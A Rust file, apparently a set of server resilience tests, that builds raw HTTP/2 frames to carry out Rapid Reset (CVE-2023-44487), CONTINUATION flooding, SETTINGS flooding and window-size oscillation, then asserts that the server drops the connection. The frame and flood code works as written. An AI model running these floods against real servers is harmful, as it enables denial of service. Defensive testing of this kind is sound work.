//! HTTP/2's own attacks, in frames built by hand.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// `GET / http localhost`, from HPACK's static table but for the host.
fn get() -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x41, 9];
    block.extend(b"localhost");
    block
}

async fn open(address: SocketAddr) -> TcpStream {
    let mut stream = TcpStream::connect(address).await.unwrap();
    stream.write_all(PREFACE).await.unwrap();
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await.unwrap();
    stream
}

/// Sends what `next` makes until the server ends the connection; how many it took, at most `most`.
async fn until_ended(stream: TcpStream, most: usize, mut next: impl FnMut(usize) -> Vec<u8>) -> usize {
    let (mut reader, mut writer) = stream.into_split();
    let mut rest = Vec::new();
    let mut sent = 0;
    let sending = async {
        while sent < most && writer.write_all(&next(sent)).await.is_ok() {
            sent += 1;
        }
        std::future::pending::<()>().await;
    };
    tokio::select! { _ = reader.read_to_end(&mut rest) => {}, () = sending => {} }
    sent
}

/// Streams that are opened and reset at once (CVE-2023-44487).
pub async fn rapid_reset(address: SocketAddr) {
    let stream = open(address).await;
    let sent = until_ended(stream, 1_000_000, |number| {
        let id = u32::try_from(number).unwrap() * 2 + 1;
        let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, id, &get());
        bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        bytes
    })
    .await;
    assert!(sent < 1_000_000, "{sent} resets were taken");
}

/// A header block without an end (VU#421644).
pub async fn continuations(address: SocketAddr) {
    let mut stream = open(address).await;
    stream.write_all(&frame(HEADERS, END_STREAM, 1, &get())).await.unwrap();
    // A literal field without indexing, over and over, and never the end of the headers.
    let mut field = vec![0x00, 1, b'a', 100];
    field.extend([b'x'; 100]);
    let block = field.repeat(100);
    let sent = until_ended(stream, 100_000, |_| frame(CONTINUATION, 0, 1, &block)).await;
    assert!(sent < 100_000, "{sent} continuations were taken");
}

/// Writes without reading; the server stops reading once its answers do not leave.
async fn without_reading(mut stream: TcpStream, bytes: &[u8]) {
    for _ in 0..500 {
        let wrote = timeout(Duration::from_millis(500), stream.write_all(bytes)).await;
        if !matches!(wrote, Ok(Ok(()))) {
            return;
        }
    }
}

/// Half a million empty SETTINGS, each of which asks for an acknowledgement.
pub async fn settings(address: SocketAddr) {
    without_reading(open(address).await, &frame(SETTINGS, 0, 0, &[]).repeat(1000)).await;
}

/// The initial window to and fro, over a hundred streams whose answers wait for it.
pub async fn windows(address: SocketAddr) {
    let setting = |size: u32| {
        let payload = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &size.to_be_bytes()].concat();
        frame(SETTINGS, 0, 0, &payload)
    };
    let mut stream = open(address).await;
    stream.write_all(&setting(0)).await.unwrap();
    for number in 0..100 {
        let request = frame(HEADERS, END_HEADERS | END_STREAM, number * 2 + 1, &get());
        stream.write_all(&request).await.unwrap();
    }
    without_reading(stream, &[setting(1), setting(0)].concat().repeat(500)).await;
}
